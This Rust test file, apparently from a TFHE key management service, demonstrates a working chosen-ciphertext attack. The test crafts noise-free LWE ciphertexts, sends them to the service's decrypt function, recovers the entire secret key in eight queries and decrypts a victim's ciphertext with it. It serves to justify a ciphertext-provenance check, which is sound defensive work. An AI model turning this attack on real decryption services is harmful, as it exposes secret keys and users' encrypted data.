//! Why the contract asks where a ciphertext comes from: whoever may have ciphertexts of his choice decrypted has the secret
//! key. Strict decoding does not help, as each question below is a perfectly well-formed ciphertext.

use kms_core_engine::{FheType, Plaintext};
use tfhe::{
    FheUint8, FheUint256, FheUint256Id,
    core_crypto::prelude::{CiphertextModulus, LweCiphertext, LweSecretKey, decrypt_lwe_ciphertext},
    integer::{IntegerCiphertext, RadixCiphertext},
    shortint::{
        AtomicPatternKind, Ciphertext,
        ciphertext::{Degree, NoiseLevel},
        parameters::{CarryModulus, MessageModulus, PBSOrder},
    },
};

use crate::fixture::{read, real, tag, write};

const BLOCKS: usize = 128;
const BITS_PER_QUESTION: usize = 2 * BLOCKS;
/// The distance between two messages.
const STEP: u64 = 1 << 59;

#[test]
fn eight_chosen_ciphertexts_of_256_bits_reveal_the_whole_secret_key() {
    let dimension = 2048;

    let mut recovered = Vec::new();
    let mut questions = 0;
    while recovered.len() < dimension {
        let stored = question(recovered.len(), dimension);
        let answer = real().decrypt(&stored, FheType::Uint256).unwrap();
        recovered.extend(bits(&answer));
        questions += 1;
    }

    assert_eq!(questions, 8);
    assert_eq!(recovered.as_slice(), real().lwe().as_ref());
    assert_eq!(decrypted_by_the_attacker(&recovered), 123);
}

/// Block `k` asks for the bits `i = first + 2k` and `i + 1` of the key: its phase is `-(-STEP) s[i] - (-2 STEP) s[i + 1]`,
/// the message `s[i] + 2 s[i + 1]` without any noise.
fn question(first: usize, dimension: usize) -> Vec<u8> {
    let blocks: Vec<_> = (0..BLOCKS)
        .map(|k| {
            let mut lwe = vec![0; dimension + 1];
            lwe[first + 2 * k] = STEP.wrapping_neg();
            lwe[first + 2 * k + 1] = (2 * STEP).wrapping_neg();
            block(lwe)
        })
        .collect();
    write(&FheUint256::from_raw_parts(RadixCiphertext::from(blocks), FheUint256Id, tag(), Default::default()))
}

fn block(lwe: Vec<u64>) -> Ciphertext {
    Ciphertext::new(
        LweCiphertext::from_container(lwe, CiphertextModulus::new_native()),
        Degree::new(3),
        NoiseLevel::NOMINAL,
        MessageModulus(4),
        CarryModulus(4),
        AtomicPatternKind::Standard(PBSOrder::KeyswitchBootstrap),
    )
}

fn bits(answer: &Plaintext) -> Vec<u64> {
    let bits =
        answer.little_endian().into_iter().flat_map(|byte| (0..8).map(move |i| u64::from(byte >> i & 1)));
    bits.take(BITS_PER_QUESTION).collect()
}

/// Decrypts somebody's ciphertext with nothing but what was recovered.
fn decrypted_by_the_attacker(recovered: &[u64]) -> u64 {
    let victim: FheUint8 = read(&real().encrypt(FheType::Uint8, "123"));
    let key = LweSecretKey::from_container(recovered.to_vec());
    let (radix, ..) = victim.into_raw_parts();
    radix.blocks().iter().rev().fold(0, |value, block| {
        let message = decrypt_lwe_ciphertext(&key, &block.ct).0.wrapping_add(STEP / 2) / STEP;
        value << 2 | message
    })
}
